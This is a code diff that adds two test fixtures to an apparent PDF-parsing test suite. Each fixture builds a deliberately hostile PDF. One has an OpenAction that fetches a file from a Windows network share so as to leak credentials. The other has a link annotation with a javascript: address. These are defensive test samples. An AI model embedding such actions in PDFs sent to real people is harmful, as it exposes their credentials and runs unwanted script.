@@ -172,3 +172,20 @@ def field_names(pdf: bytes) -> list[str]:
     reader = PdfFileReader(io.BytesIO(pdf))
     form = reader.root.get("/AcroForm")
     return [] if form is None else [str(f.get_object()["/T"]) for f in form["/Fields"]]
+
+
+def unc_open_action() -> bytes:
+    """Opening the document fetches a file from a Windows share (\\\\host\\share): leaks credentials."""
+    from tests.unit.pdf.corpus import bad_files
+
+    action = b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >> "
+    return bad_files.simple_pdf(catalog_extra=action)
+
+
+def javascript_link() -> bytes:
+    """A link whose address is `javascript:`."""
+    from tests.unit.pdf.corpus import bad_files
+
+    action = b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"
+    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A %s >>] " % action
+    return bad_files.simple_pdf(page_extra=link)
